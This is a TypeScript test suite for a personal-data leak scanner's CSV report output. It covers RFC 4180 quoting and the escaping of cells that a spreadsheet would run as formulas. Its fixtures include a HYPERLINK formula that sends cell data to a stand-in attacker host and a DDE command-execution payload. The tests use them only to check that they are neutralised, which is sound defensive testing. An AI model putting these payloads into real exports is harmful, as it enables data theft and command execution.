import { parse } from 'csv-parse/sync';
import { formatCsv } from '../../src/report/csv.js';
import type { Finding, Report } from '../../src/types.js';
import { scanLeakyBundle } from '../helpers/leaky-report.js';

const HEADER = ['file', 'line', 'column', 'severity', 'category', 'confidence', 'rule', 'field', 'masked', 'fingerprint'];

/** Parses CSV strictly as RFC 4180: every record the same width, quotes only where allowed. */
function rows(csv: string): string[][] {
  return parse(csv, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, skip_empty_lines: false });
}

const base = { confidence: 'high' as const, fingerprint: 'sha256:00', line: 1, column: 1 };
const findings: Finding[] = [
  { ...base, ruleId: 'uk-identifiers.nino', category: 'nino', severity: 'critical', file: 'bundle/asb-cases.csv', line: 7, column: 31, field: 'Case notes', masked: 'JM ** ** ** C', fingerprint: 'sha256:aa11' },
  { ...base, ruleId: 'uk-contact.phone', category: 'phone', severity: 'high', file: 'bundle/asb-cases.csv', line: 9, column: 4, field: 'Phone, "home"\r\nor mobile', masked: '+44 ** **** ***1', confidence: 'medium' },
  { ...base, ruleId: 'field-names.person-name', category: 'sensitive-field', severity: 'high', file: 'bundle/x.csv', line: 1, column: 3, field: '=HYPERLINK("https://evil.invalid/?"&A1,"Click")', masked: '@SUM(A1:A9)' },
  { ...base, ruleId: 'email', category: 'email', severity: 'high', file: "=cmd|' /C calc'!A0.csv", line: 2, column: 1, field: '-2+3', masked: '\tja**@*******.**m' },
  { ...base, ruleId: 'ip', category: 'ip-address', severity: 'low', file: 'bundle.zip!/log.txt', line: 3, column: 8, field: '\rcr', masked: '***.*.*.**', confidence: 'low' },
];

const report: Report = {
  version: 1,
  tool: { name: 'leakgate', version: '1.2.3' },
  summary: { files: 3, bytes: 100, findings: findings.length, errors: 1, warnings: 0, suppressed: 0, failOn: 'low', failed: true, durationMs: 3 },
  findings,
  errors: [{ file: 'bundle/broken.zip', code: 'EUNREADABLE', message: 'not a zip archive' }],
  warnings: [],
};

describe('formatCsv', () => {
  const csv = formatCsv(report);
  const parsed = rows(csv);

  test('a header, then one row per finding', () => {
    expect(parsed[0]).toEqual(HEADER);
    expect(parsed).toHaveLength(findings.length + 1);
  });

  test('plain rows are unquoted and every record ends with CRLF', () => {
    expect(csv.startsWith(`${HEADER.join(',')}\r\nbundle/asb-cases.csv,7,31,critical,nino,high,uk-identifiers.nino,Case notes,JM ** ** ** C,sha256:aa11\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted cells there is no bare LF or CR.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
  });

  test('commas, quotes and line breaks are quoted and read back intact', () => {
    expect(parsed[2]![7]).toBe('Phone, "home"\r\nor mobile');
    expect(csv).toContain('"Phone, ""home""\r\nor mobile"');
  });

  test('cells a spreadsheet would run as a formula get a leading apostrophe', () => {
    const at = (row: number, col: string) => parsed[row]![HEADER.indexOf(col)];
    expect(at(2, 'masked')).toBe("'+44 ** **** ***1");
    expect(at(3, 'field')).toBe('\'=HYPERLINK("https://evil.invalid/?"&A1,"Click")');
    expect(at(3, 'masked')).toBe("'@SUM(A1:A9)");
    expect(at(4, 'file')).toBe("'=cmd|' /C calc'!A0.csv");
    expect(at(4, 'field')).toBe("'-2+3");
    expect(at(4, 'masked')).toBe("'\tja**@*******.**m");
    expect(at(5, 'field')).toBe("'\rcr");
    // Nothing else is touched.
    expect(at(5, 'file')).toBe('bundle.zip!/log.txt');
    expect(at(1, 'masked')).toBe('JM ** ** ** C');
    for (const row of parsed) expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });

  test('no value column unless a finding has a value', () => {
    expect(parsed.every((r) => r.length === HEADER.length)).toBe(true);
    expect(csv).not.toContain('value');
  });

  test('with --show-values, a value column, guarded like the rest', () => {
    const withValues: Report = { ...report, findings: findings.map((f, i) => (i === 1 ? { ...f, value: '+44 20 7946 0321' } : i === 0 ? { ...f, value: 'JM 45 67 89 C' } : f)) };
    const out = rows(formatCsv(withValues));
    expect(out[0]).toEqual([...HEADER, 'value']);
    expect(out.map((r) => r.at(-1))).toEqual(['value', 'JM 45 67 89 C', "'+44 20 7946 0321", '', '', '']);
  });

  test('an empty report is the header alone', () => {
    expect(formatCsv({ ...report, findings: [] })).toBe(`${HEADER.join(',')}\r\n`);
  });
});

describe('formatCsv on a real scan of examples/leaky-bundle', () => {
  test('parses back with one row per finding, in report order', async () => {
    const { report: real } = await scanLeakyBundle();
    const out = rows(formatCsv(real));
    expect(out[0]).toEqual(HEADER);
    expect(out).toHaveLength(real.findings.length + 1);
    for (const [i, f] of real.findings.entries()) {
      const row = out[i + 1]!;
      expect(row.slice(0, 7)).toEqual([f.file, String(f.line), String(f.column), f.severity, f.category, f.confidence, f.ruleId]);
      expect(row[9]).toBe(f.fingerprint);
    }
  });

  test('--show-values adds the value column', async () => {
    const { report: real } = await scanLeakyBundle(true);
    const out = rows(formatCsv(real));
    expect(out[0]).toEqual([...HEADER, 'value']);
    expect(out).toHaveLength(real.findings.length + 1);
    expect(out.slice(1).every((r) => r.at(-1) !== '')).toBe(true);
  });
});
